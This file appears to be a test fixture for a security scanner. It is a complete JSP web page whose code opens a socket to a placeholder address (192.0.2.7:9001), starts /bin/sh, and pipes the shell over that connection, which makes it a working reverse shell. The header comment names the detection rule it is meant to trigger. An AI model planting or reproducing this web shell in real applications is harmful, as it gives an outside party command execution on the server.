<%-- expect rule=jsp.reverse-shell min=80 --%>
<%@ page import="java.io.*,java.net.*" %>
<%!
    class Pump extends Thread {
        InputStream in; OutputStream os;
        Pump(InputStream in, OutputStream os) { this.in = in; this.os = os; }
        public void run() {
            byte[] b = new byte[1024]; int n;
            try { while ((n = in.read(b)) > 0) { os.write(b, 0, n); os.flush(); } } catch (Exception e) { }
        }
    }
%>
<%
    Socket s = new Socket("192.0.2.7", 9001);
    Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
    new Pump(s.getInputStream(), p.getOutputStream()).start();
    new Pump(p.getInputStream(), s.getOutputStream()).start();
%>
